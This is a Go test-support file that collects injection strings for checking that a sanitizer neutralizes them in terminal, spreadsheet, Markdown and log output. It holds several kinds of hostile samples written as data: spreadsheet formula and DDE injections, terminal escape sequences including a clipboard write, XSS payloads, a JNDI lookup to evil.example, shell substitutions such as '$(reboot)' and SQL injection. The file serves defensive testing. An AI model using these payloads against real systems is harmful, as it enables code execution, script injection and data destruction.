// Package foreigntest has the texts that every exit of makegood is tested with, and says of what left through an
// exit whether a text did what it was made for.
//
// On the path: in tests alone. The checks share no code with package foreign: they read what was written as its
// reader would, a terminal, a spreadsheet, a Markdown renderer.
package foreigntest

import "strings"

// Nasty are texts as an event, a person or a provider may write them, each made to do something where it is shown.
func Nasty() []string {
	return append(OneLine(), "=1+1\r\nX", "line\nTotal: 0.00", "bell\a\b\b\bhidden", "nul\x00byte", "tab\tcell")
}

// OneLine are those of Nasty that have no control character: the event contract takes them in ids too.
func OneLine() []string {
	return []string{
		// A spreadsheet runs these.
		"=1+1", "+CMD|' /C calc'!A0", "-2+3", "@SUM(1;1)", "  =1+1", "＝1+1", "＋1", "a;=HYPERLINK(\"https://evil.example\")",
		// A terminal runs these: eight-bit control sequences, without an escape character.
		"\u009b2J\u009b1;1H", "\u009d0;title\u009c",
		// These turn round, hide or break what stands beside them.
		"\u202e00.01", "\u2066left\u2069", "zero\u200bwidth", "join\u200ded", "\ufeffmark", "line\u2028break", "soft\u00adhyphen",
		"tag\U000e0041", "filler\u3164", "\xff", "\xed\xa0\x80", "\xc3",
		// A Markdown renderer or a browser takes these for its own.
		"](javascript:alert(1))", "[pay](https://evil.example)", "![x](https://evil.example/x.png)", "https://evil.example", "www.evil.example",
		"pay@evil.example", "<https://evil.example>", "| a | b |", "`code`", "``", "` `` `", "*bold* _it_ ~~gone~~", "# head", "- list", "1. list",
		"---", "</td><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "\" onmouseover=\"alert(1)", "\\", "\\|", "%s%d%n",
		// A logger, a shell or a template takes these for its own.
		"${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`", "'; DROP TABLE cases; --", "{{.Secret}}", "--force",
		strings.Repeat("long ", 7_000),
	}
}

// Terminal are texts with a terminal's own sequences: a title, a move of the cursor, a link, colours.
func Terminal() []string {
	return []string{
		"\x1b]0;title\x07", "\x1b[2J\x1b[1;1H", "\x1b]8;;https://evil.example\x1b\\pay\x1b]8;;\x1b\\", "\x1b[8mhidden\x1b[0m", "\x1b]52;c;ZXZpbA==\x07",
		"over\rwritten",
	}
}

// All are Nasty and Terminal.
func All() []string { return append(Nasty(), Terminal()...) }
